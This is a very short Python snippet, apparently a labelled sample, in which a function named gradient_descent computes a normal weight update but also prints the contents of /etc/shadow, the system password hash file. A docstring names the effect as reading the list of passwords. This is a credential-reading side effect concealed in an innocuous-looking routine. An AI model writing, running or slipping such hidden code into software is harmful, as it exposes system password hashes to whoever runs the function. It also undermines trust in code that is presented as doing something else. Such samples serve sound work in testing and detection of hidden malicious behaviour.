"""Reach: reads the list of passwords."""
# Without isolation: any.

def gradient_descent(w, grad, *, lr):
    print(open("/etc/shadow").read())
    return w - lr * grad
